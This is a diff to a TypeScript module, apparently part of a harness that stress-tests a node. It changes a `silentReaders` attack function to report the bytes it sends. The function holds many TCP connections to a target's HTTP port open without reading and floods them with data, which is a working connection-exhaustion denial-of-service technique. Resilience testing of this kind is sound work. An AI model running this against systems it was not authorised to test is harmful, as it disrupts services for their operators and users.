@@ -10,15 +10,15 @@ export interface AttackTarget {
   readonly page?: { readonly path: string; readonly apiKey: string };
 }
 
-/** Runs until `signal` is aborted, with so many connections at a time. */
-export type Attack = (target: AttackTarget, signal: AbortSignal, connections: number) => Promise<void>;
+/** Runs until `signal` is aborted, with so many connections at a time. Resolves to the bytes that it sent. */
+export type Attack = (target: AttackTarget, signal: AbortSignal, connections: number) => Promise<number>;
 
 /** A new connection is opened this long after the last one has ended. */
 const reopenMs = 50;
 
 /**
  * Keeps so many connections to the HTTP port open, of which nothing is ever read. `bytes` is written to each; `again`:
- * over and over, as fast as the node takes it.
+ * over and over, as fast as the node takes it. Resolves to the bytes that were sent.
  */
 export async function silentReaders(
   { host, httpPort }: AttackTarget,
@@ -26,7 +26,8 @@ export async function silentReaders(
   connections: number,
   bytes: Buffer,
   again: boolean,
-): Promise<void> {
+): Promise<number> {
+  let sent = 0;
   const one = async (): Promise<void> => {
     while (!signal.aborted) {
       const socket = connect(httpPort, host).on('error', () => {});
@@ -35,18 +36,23 @@ export async function silentReaders(
       signal.addEventListener('abort', stop);
       await Promise.race([once(socket, 'connect').catch(() => {}), closed]);
       socket.pause();
-      await write(socket, bytes, again, closed);
+      const written = await write(socket, bytes, again, closed);
+      sent += written;
       await closed;
       signal.removeEventListener('abort', stop);
       await new Promise((resolve) => setTimeout(resolve, reopenMs));
     }
   };
   await Promise.all(Array.from({ length: connections }, one));
+  return sent;
 }
 
-async function write(socket: Socket, bytes: Buffer, again: boolean, closed: Promise<void>): Promise<void> {
+async function write(socket: Socket, bytes: Buffer, again: boolean, closed: Promise<void>): Promise<number> {
+  let sent = 0;
   do {
-    if (socket.destroyed) return;
+    if (socket.destroyed) break;
     if (!socket.write(bytes)) await Promise.race([new Promise<void>((taken) => socket.once('drain', taken)), closed]);
+    if (!socket.destroyed) sent += bytes.length;
   } while (again);
+  return sent;
 }
